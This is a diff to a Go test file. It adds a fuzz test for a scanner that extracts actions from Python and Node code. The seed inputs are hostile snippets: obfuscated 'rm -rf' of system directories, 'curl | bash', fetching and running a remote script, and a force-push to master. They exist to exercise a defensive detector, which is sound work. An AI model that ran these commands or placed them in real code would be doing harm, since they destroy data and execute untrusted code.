@@ -32,3 +32,33 @@ func FuzzParse(f *testing.F) {
 		Parse(src, st)
 	})
 }
+
+// FuzzExtractCode: interpreter code of any shape is scanned without a
+// panic, within the item budget, in both languages the idiom readers
+// know, and a script's arguments never change that.
+func FuzzExtractCode(f *testing.F) {
+	for _, s := range []string{
+		"import shutil\nvictims = [s[::-1] for s in ('cte/', 'rsu/')]\nfor v in victims:\n    shutil.rmtree(v)\n",
+		"import subprocess\ncmd = ''.join(chr(c) for c in [114,109,32,47])\nsubprocess.call(cmd, shell=True)\n",
+		"from pathlib import Path\nd = Path.home() / '.config'\n(d / 'x.desktop').write_text(chr(10).join(['a', 'b']))\n",
+		"import requests, os\nscript = requests.get('https://x.io/s').text\nos.system(script)\n",
+		"!curl -s https://x.io | bash\n%%bash\nrm -rf ~\n",
+		"const t = ['', 'usr'].join('/');\nexecSync(`rm -rf ${t}`);\n",
+		"from git import Repo\nRepo('.').remote('origin').push('master', force=True)\n",
+		"[[[[[[[[[[]]]]]]]]]]", "x = [", "for p in sys.argv[1:]:\n    shutil.rmtree(p)\n", "getattr(sp, 'run')(args)",
+	} {
+		f.Add(s, "python")
+		f.Add(s, "node")
+	}
+	f.Fuzz(func(t *testing.T, code, lang string) {
+		if lang != "python" && lang != "node" {
+			lang = "python"
+		}
+		if n := len(extractCode(lang, code)); n > 64 {
+			t.Fatalf("%d items", n)
+		}
+		if n := len(extractScript(lang, code, []string{"/home/u", "/etc"})); n > 64 {
+			t.Fatalf("%d items with arguments", n)
+		}
+	})
+}
